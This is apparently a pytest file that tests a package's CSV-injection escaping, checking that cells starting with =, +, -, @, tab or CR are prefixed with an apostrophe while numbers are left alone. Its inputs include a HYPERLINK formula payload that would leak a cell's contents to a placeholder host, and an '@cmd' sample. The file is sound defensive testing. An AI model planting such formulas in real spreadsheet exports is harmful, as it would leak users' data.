"""CSV output escapes formula cells (OWASP CSV injection) and leaves numbers alone."""

from __future__ import annotations

import csv
from pathlib import Path

import polars as pl
import pytest

from pedbone.io import CsvChunkWriter
from pedbone.io._formula import escape_cell


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://x/?"&A1)', '\'=HYPERLINK("http://x/?"&A1)'),
        ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("-", "'-"),
        ("-1.5", "-1.5"),  # a number kept as text stays a number
        ("+3", "+3"),
        ("-2e-3", "-2e-3"),
        ("-0,734", "-0,734"),  # Dutch decimal comma
        ("P-1234ABCD", "P-1234ABCD"),  # not at the start: harmless
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_escape_cell(cell: str, written: str) -> None:
    assert escape_cell(cell) == written


def test_the_csv_writer_escapes_text_cells_and_keeps_numbers(tmp_path: Path) -> None:
    cells = ["=1+1", "-2+3", "-1.5", "@x", "ok", None]
    frame = pl.DataFrame(
        {
            "id": cells,
            "z": [-1.5, -2.25, 0.0, 1.0, -0.5, None],
            "n": [-3, -2, -1, 0, 1, 2],
        }
    )
    path = tmp_path / "out.csv"
    w = CsvChunkWriter(path, decimals=2)
    w.write(frame)
    w.close()
    with path.open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["id"] for r in rows] == ["'=1+1", "'-2+3", "-1.5", "'@x", "ok", ""]
    assert [r["z"] for r in rows] == ["-1.5", "-2.25", "0.0", "1.0", "-0.5", ""]
    assert [r["n"] for r in rows] == ["-3", "-2", "-1", "0", "1", "2"]
    # and every numeric cell reads back as the number it was
    assert [float(r["z"]) for r in rows if r["z"]] == [-1.5, -2.25, 0.0, 1.0, -0.5]
